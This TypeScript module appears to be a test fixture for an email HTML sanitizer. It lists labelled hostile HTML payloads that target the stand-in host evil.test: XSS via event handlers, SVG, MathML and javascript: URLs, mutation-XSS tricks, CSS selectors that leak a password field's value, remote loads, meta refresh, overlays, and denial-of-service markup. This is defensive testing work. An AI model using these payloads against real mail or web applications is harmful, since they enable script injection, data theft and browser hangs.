/**
 * HTML that tries to do something: to run a script, to ask another host for anything, to go elsewhere, to
 * cover the page, to hang it. What others have tried in mail, and what a policy is known not to be about.
 *
 * @module
 */

/** Where hostile mail calls home. The browser of the test takes every name for a port that listens. */
const EVIL = "http://evil.test";

/** What a script says that runs. */
export const CANARY = "canary-7f3a";

/** A script, for an attribute in double quotes. It tells by all ways at once that it has run. */
const RUN = `console.log('${CANARY}');alert('${CANARY}');document.title='${CANARY}';` +
  `new Image().src='${EVIL}/run';location='${EVIL}/gone'`;

const escaped = RUN.replaceAll("'", "&#39;");
const encoded = encodeURIComponent(`<script>${RUN}</script>`);

const SVG = `<svg xmlns='http://www.w3.org/2000/svg' onload="${RUN}"><script>${RUN}</script></svg>`;

/** The handlers of elements that need no click. */
const HANDLERS = [
  `<body onload="${RUN}" onpageshow="${RUN}" onresize="${RUN}" onhashchange="${RUN}">`,
  `<img src=x onerror="${RUN}"><image src=x onerror="${RUN}">`,
  `<svg onload="${RUN}"><animate onbegin="${RUN}" attributeName=x dur=1s></svg>`,
  `<video onerror="${RUN}"><source src=x onerror="${RUN}"></video><audio src=x onerror="${RUN}">`,
  `<details open ontoggle="${RUN}">x</details><input autofocus onfocus="${RUN}">`,
  `<marquee onstart="${RUN}">x</marquee><object data=x onerror="${RUN}"></object>`,
  `<style onload="${RUN}">@keyframes k{to{top:1px}}*{animation:k 1ms}</style>`,
  `<p onanimationstart="${RUN}" onanimationend="${RUN}" style="animation:k 1ms">x</p>`,
  `<p style="transition:top 1ms" ontransitionend="${RUN}" onscrollsnapchange="${RUN}">x</p>`,
  `<link rel=stylesheet href=x onerror="${RUN}"><iframe onload="${RUN}"></iframe>`,
  `<dialog open onclose="${RUN}"></dialog><p popover onbeforetoggle="${RUN}">x</p>`,
  `<script src=x onerror="${RUN}"></script><embed src=x onload="${RUN}">`,
];

/** Every relation of a link that makes a browser fetch or connect, or once did. */
const RELATIONS =
  "stylesheet preload prefetch preconnect dns-prefetch modulepreload prerender icon manifest import " +
  "alternate next search pingback subresource compression-dictionary shortcut apple-touch-icon expect";

const AS = "image script style font fetch document worker track video audio";

const links = RELATIONS.split(" ").map((rel) => `<link rel="${rel}" href="${EVIL}/${rel}">`).join(
  "",
);
const preloads = AS.split(" ").map((as) =>
  `<link rel=preload as=${as} href="${EVIL}/as-${as}" imagesrcset="${EVIL}/set 1x" crossorigin>`
).join("");

/** Properties of CSS that load what they name. */
const LOADING =
  "background background-image border-image border-image-source content cursor filter list-style " +
  "list-style-image mask mask-image mask-border-source clip-path shape-outside offset-path behavior " +
  "-moz-binding -webkit-mask -webkit-mask-box-image -webkit-box-reflect marker-start backdrop-filter fill";

const styled =
  LOADING.split(" ").map((property, place) =>
    `#p${place}{${property}:url(${EVIL}/${property})}#p${place}::before{content:"";${property}:url("//evil.test/b")}`
  ).join("") +
  `p::after{content:image-set("${EVIL}/set" 1x);background:-webkit-image-set(url(${EVIL}/w) 1x)}` +
  `div{background:-webkit-cross-fade(url(${EVIL}/f1),url(${EVIL}/f2),50%);--v:url(${EVIL}/v)}` +
  `body{background:var(--v),url(${EVIL}/v2);@media screen{background:url(${EVIL}/m)}}`;

const exfiltration = [..."abcdefghijklmnopqrstuvwxyz"].map((letter) =>
  `input[value^=${letter}]{background:url(${EVIL}/starts-${letter})}` +
  `input[value$=${letter}]~p{list-style:url(${EVIL}/ends-${letter});display:list-item}`
).join("");

const fonts = [..."abc"].map((letter) =>
  `@font-face{font-family:f;src:local(x),url(${EVIL}/font-${letter});unicode-range:U+${
    letter.charCodeAt(0).toString(16)
  }}`
).join("");

/** Elements that cover what is around them, and links that cannot be missed. */
const OVERLAY = "<style>html,body,*{position:fixed!important;inset:-9999px;z-index:2147483647;" +
  "width:99999px;height:99999px;font-size:999px;color:red;background:red;transform:scale(99)}</style>" +
  `<a href="${EVIL}/overlay" target=_top style="cursor:none">x</a>`;

const nested = (tag: string, count: number) => `<${tag}>`.repeat(count);

/** Each is the HTML of one message, by what it tries. */
export const HOSTILE_HTML: readonly (readonly [what: string, html: string])[] = [
  [
    "script",
    `<script>${RUN}</script><SCRIPT type=module>${RUN}</SCRIPT><scr<script>ipt>${RUN}</script>`,
  ],
  [
    "script from elsewhere",
    `<script src="${EVIL}/s.js"></script><script type=module src="//evil.test/m.js">` +
    `</script><svg><script href="${EVIL}/svg.js" xlink:href="${EVIL}/x.js"></script></svg>`,
  ],
  [
    "speculation rules",
    `<script type=speculationrules>{"prefetch":[{"urls":["${EVIL}/spec"]}],` +
    `"prerender":[{"urls":["${EVIL}/spec2"]}]}</script><script type=importmap>{"imports":{"a":"${EVIL}/i"}}</script>`,
  ],
  ...HANDLERS.map((html, place) => [`event handlers ${place + 1}`, html] as const),
  [
    "scripts in SVG",
    `<svg><script>${RUN}</script><set attributeName=onmouseover to="${RUN}"/>` +
    `<a xlink:href="javascript:${escaped}"><text y=9>x</text></a><foreignObject><iframe srcdoc="${escaped}"/>` +
    `</foreignObject><use href="data:image/svg+xml,${encodeURIComponent(SVG)}#x"/></svg>`,
  ],
  [
    "what SVG loads",
    `<svg><image href="${EVIL}/i" xlink:href="${EVIL}/x"/><use href="${EVIL}/u#x"/>` +
    `<feImage href="${EVIL}/fe"/><filter id=f><feImage xlink:href="${EVIL}/fe2"/></filter><rect filter="url(#f)" ` +
    `width=9 height=9 fill="url(${EVIL}/fill#x)"/><animate href="#x" attributeName=href values="${EVIL}/a"/>` +
    `<style>@import "${EVIL}/svg.css";</style><link xmlns="http://www.w3.org/1999/xhtml" rel=preconnect href="${EVIL}"/></svg>`,
  ],
  [
    "an image of SVG",
    `<img src="data:image/svg+xml,${encodeURIComponent(SVG)}"><img src='data:image/svg+xml,` +
    `${
      encodeURIComponent(`<svg xmlns="http://www.w3.org/2000/svg"><image href="${EVIL}/in"/></svg>`)
    }'>`,
  ],
  [
    "MathML",
    `<math><maction actiontype="statusline#x" xlink:href="javascript:${escaped}">x</maction>` +
    `<mtext href="javascript:${escaped}">y</mtext><annotation-xml encoding="text/html"><script>${RUN}</script></math>`,
  ],
  [
    "markup that mutates",
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 ` +
    `onerror=${RUN}&gt;"></table></math><noscript><p title="</noscript><img src=x onerror=${RUN}>"></noscript>` +
    `<svg></p><style><a id="</style><img src=1 onerror=${RUN}>"><listing>&lt;img src=x onerror=${RUN}&gt;</listing>`,
  ],
  [
    "CSS that tells what is written",
    `<style>${exfiltration}</style><input value=secret type=password><p>x</p>`,
  ],
  [
    "CSS that imports",
    `<style>@import url(${EVIL}/1.css);@import "//evil.test/2.css" layer(x);@charset "x";` +
    `@namespace svg url(${EVIL}/ns);</style><style>@import '${EVIL}/3.css' screen;</style>`,
  ],
  [
    "fonts",
    `<style>${fonts}@font-palette-values --x{}*{font-family:f}</style><p>abc</p><font face=f>abc</font>`,
  ],
  [
    "what CSS loads",
    `<style>${styled}</style>${LOADING.split(" ").map((_, i) => `<p id=p${i}>x</p>`).join("")}` +
    `<div style="background:url('${EVIL}/inline')">x</div><div style="background:u\\72l(${EVIL}/escaped)">x</div>`,
  ],
  [
    "scripts in CSS",
    `<style>p{width:expression(${RUN});background:url("javascript:${escaped}")}</style>` +
    `<div style="behavior:url(#x);background:url(javascript:${escaped})">x</div><link rel=stylesheet href="javascript:${escaped}">`,
  ],
  [
    "refresh",
    `<meta http-equiv=refresh content="0;url=${EVIL}/refresh"><meta http-equiv="Refresh" content="0.1;URL='//evil.test/r2'">`,
  ],
  [
    "refresh to a script",
    `<meta http-equiv=refresh content="0;url=javascript:${escaped}"><meta http-equiv=refresh ` +
    `content="0;url=data:text/html,${encoded}">`,
  ],
  [
    "refresh to our own API",
    `<meta http-equiv=refresh content="0;url=/api/messages"><iframe src="/"></iframe>` +
    `<iframe src="/api/messages"></iframe><img src="/api/counts"><link rel=stylesheet href="/style.css">`,
  ],
  [
    "other words of meta",
    `<meta http-equiv="x-dns-prefetch-control" content=on><a href="http://a.evil.test/">x</a>` +
    `<meta http-equiv=set-cookie content="a=b"><meta http-equiv="content-security-policy" content="default-src *; ` +
    `report-uri ${EVIL}/report; img-src 'none'"><meta name=referrer content=unsafe-url><meta http-equiv=link ` +
    `content="<${EVIL}>; rel=preconnect"><meta http-equiv="accept-ch" content="dpr"><meta http-equiv=origin-trial content=x>`,
  ],
  [
    "a form",
    `<form action="${EVIL}/form" method=post target=_top><input name=password autofocus><button id=b>Go</button>` +
    `<button formaction="javascript:${escaped}">x</button><input type=image src="${EVIL}/button"></form>` +
    `<isindex action="${EVIL}/i" prompt=x><input form=x list=y><datalist id=y><option value=z></datalist>`,
  ],
  [
    "a base",
    `<base href="${EVIL}/base/" target=_top><img src=relative.png><link rel=icon href=i><a href=x>x</a>`,
  ],
  [
    "a base for scripts",
    `<base href="javascript:/x/"><a href="//${escaped}">x</a><base href="//evil.test"><script src=s></script>`,
  ],
  [
    "data and javascript URLs",
    `<a href="javascript:${escaped}" autofocus>x</a><a href="java&#9;script:${escaped}">y</a>` +
    `<a href="data:text/html,${encoded}">z</a><img src="javascript:${escaped}"><iframe src="data:text/html,${encoded}">` +
    `</iframe><a href=" &#1;javascript:${escaped}">q</a><a href="vbscript:x">v</a><a href="blob:null/x">b</a>`,
  ],
  [
    "frames",
    `<iframe src="${EVIL}/frame"></iframe><iframe srcdoc="&lt;script&gt;${escaped}&lt;/script&gt;"></iframe>` +
    `<iframe src="javascript:${escaped}"></iframe><iframe src="about:srcdoc" csp="x"></iframe><iframe name=_top src="//evil.test"></iframe>`,
  ],
  [
    "a frameset",
    `<frameset onload="${RUN}" cols=*><frame src="${EVIL}/f"><frame src="javascript:${escaped}"></frameset>`,
  ],
  [
    "portals and fenced frames",
    `<portal src="${EVIL}/portal"></portal><fencedframe src="${EVIL}/ff"></fencedframe>` +
    `<webview src="${EVIL}/w"></webview><controlledframe src="${EVIL}/c"></controlledframe><permission type=camera></permission>`,
  ],
  [
    "objects",
    `<object data="${EVIL}/o"></object><object type=text/html data="${EVIL}/ot"></object>` +
    `<embed type=text/html src="${EVIL}/et"><object type=text/html data="data:text/html,${encoded}"></object>` +
    `<embed src="${EVIL}/e"><embed type=image/svg+xml src="data:image/svg+xml,${
      encodeURIComponent(SVG)
    }">` +
    `<applet code=x codebase="${EVIL}/a"></applet><object classid="clsid:x"><param name=movie value="${EVIL}/p"></object>`,
  ],
  ["links to be fetched", links + preloads],
  [
    "links to connect by",
    `<link rel=preconnect href="${EVIL}:8001"><link rel="dns-prefetch preconnect" href="//a1.evil.test">`,
  ],
  [
    "links to connect by, in disguise",
    `<LiNk/rel=preconnect/href=//a2.evil.test><link\trel=preconnect\nhref="https://a3.evil.test" crossorigin>` +
    `<link\nrel="PRECONNECT&#32;x" href=http:a4.evil.test><link rel=preconnect href=//a5.evil.test `,
  ],
  [
    "links to connect by, elsewhere in the tree",
    `<table><tr><link rel=preconnect href=//a6.evil.test></table><svg><desc>` +
    `<link rel=preconnect href=//a7.evil.test></desc></svg><select><link rel=preconnect href=//a8.evil.test></select>` +
    `<div><template shadowrootmode=open><link rel=preconnect href=//a9.evil.test></template></div><noscript>` +
    `<link rel=preconnect href=//a10.evil.test></noscript><math><mi><link rel=preconnect href=//a11.evil.test></math>`,
  ],
  [
    "links behind what is no comment",
    `<!--><link rel=preconnect href=//a12.evil.test><!-- --!><link rel=preconnect href=//a13.evil.test>` +
    `<title></title/><link rel=preconnect href=//a14.evil.test></title><![CDATA[<link rel=preconnect href=//a15.evil.test>]]>`,
  ],
  [
    "media",
    `<video src="${EVIL}/v" poster="${EVIL}/poster" autoplay preload=auto><track default src="${EVIL}/t"></video>` +
    `<audio src="${EVIL}/a" autoplay></audio><video><source src="${EVIL}/source"></video><bgsound src="${EVIL}/b">`,
  ],
  [
    "images of all kinds",
    `<img src="${EVIL}/1"><img srcset="${EVIL}/2 1x, //evil.test/3 2x"><picture><source srcset="${EVIL}/4">` +
    `<img src="${EVIL}/5" loading=eager fetchpriority=high></picture><img lowsrc="${EVIL}/6" dynsrc="${EVIL}/7" src=x>` +
    `<img src="\\\\evil.test\\8"><img src="/\t/evil.test/9"><img src="http:evil.test/10"><img src="ftp://evil.test/11">`,
  ],
  [
    "backgrounds",
    `<body background="${EVIL}/body"><table background="${EVIL}/table"><tr background="${EVIL}/tr">` +
    `<td background="//evil.test/td">x</table></body>`,
  ],
  [
    "attribution and pings",
    `<a href="#x" ping="${EVIL}/ping" attributionsrc="${EVIL}/attr">x</a><img attributionsrc="${EVIL}/src" ` +
    `sharedstoragewritable browsingtopics src="data:,x"><area ping="${EVIL}/area" href="#y">`,
  ],
  [
    "links out of the frame",
    ["_top", "_parent", "_self", "_blank", "message"].map((target) =>
      `<a href="${EVIL}/${target}" target="${target}" rel=opener accesskey=j>${target}</a>`
    ).join("") +
    `<map name=m><area shape=default target=_top href="${EVIL}/map"></map><img usemap="#m">`,
  ],
  ["an overlay", OVERLAY],
  [
    "everything hidden",
    "<style>*{display:none!important}@page{size:0}</style><plaintext>x<script>",
  ],
  [
    "keys and focus",
    `<input autofocus accesskey=j><textarea autofocus></textarea><p contenteditable autofocus tabindex=1>x</p>` +
    `<dialog open autofocus><input autofocus></dialog><a accesskey=k href="${EVIL}/key">x</a>`,
  ],
  [
    "a document type from elsewhere",
    `<?xml-stylesheet href="${EVIL}/x.xsl"?><!DOCTYPE html SYSTEM "${EVIL}/x.dtd" [<!ENTITY x SYSTEM ` +
    `"${EVIL}/ent">]><html manifest="${EVIL}/m" xmlns="http://www.w3.org/1999/xhtml"><head profile="${EVIL}/p">&x;`,
  ],
  [
    "octets that nobody sees",
    `<scr\0ipt>${RUN}</scr\0ipt><im\0g src=x onerror="${RUN}"><img src=x on\0error="${RUN}">` +
    `<li\0nk rel=preconnect href=//a16.evil.test>`,
  ],
  [
    "another character set",
    `<meta charset=utf-7>+ADw-script+AD4-${RUN}+ADw-/script+AD4-<meta charset=iso-2022-jp>\x1b$B<script>`,
  ],
  [
    "a picture of the message that it is not in",
    `<img src="cid:other@evil.test"><img src="cid:../../../counts"><img src="cid:%2e%2e/x">`,
  ],
  [
    "tags that never end",
    `<a href="x" title='<img src=x onerror=${RUN}>' <b <i <!-- <script>${RUN}<textarea><xmp><style>`,
  ],
  ["20 MB of nested tags", nested("div", 4_000_000)],
  [
    "formatting that multiplies",
    Array.from({ length: 20_000 }, (_, n) => `<font size=${n}>`).join("") + nested("p", 20_000),
  ],
  ["tables without an end", nested("table><tr><td colspan=1000 rowspan=65534", 20_000)],
  [
    "SVG that multiplies",
    `<svg><defs><g id=a0><rect width=1 height=1 /></g>${
      Array.from(
        { length: 12 },
        (_, n) => `<g id=a${n + 1}>${`<use href="#a${n}"/>`.repeat(10)}</g>`,
      ).join("")
    }</defs><use href="#a12"/></svg>`,
  ],
  [
    "a style that takes long",
    `<style>${
      Array.from(
        { length: 300 },
        (_, n) => `*:has(*:nth-last-child(${n + 2}n of :has(b))) ~ * *{color:red}`,
      ).join("")
    }</style>${"<div><b>x</b>".repeat(3000)}`,
  ],
];
